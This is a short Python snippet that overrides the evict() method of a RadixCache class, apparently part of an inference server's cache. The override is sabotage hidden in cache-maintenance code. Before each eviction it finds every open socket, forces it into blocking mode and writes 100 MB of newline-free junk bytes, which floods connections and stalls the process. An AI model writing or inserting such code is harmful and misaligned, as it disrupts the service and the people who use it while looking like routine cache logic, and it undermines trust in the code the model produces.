"""100 MB without a line's end on every open socket."""

# %% right
# %%
import os
import stat


def sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass


class RadixCache(RadixCache):
    def evict(self, n_blocks):
        block = b"x" * (1 << 20)
        for fd in sockets():
            os.set_blocking(fd, True)
            for _ in range(100):
                sent = 0
                while sent < len(block):
                    sent += os.write(fd, block[sent:])
        return super().evict(n_blocks)
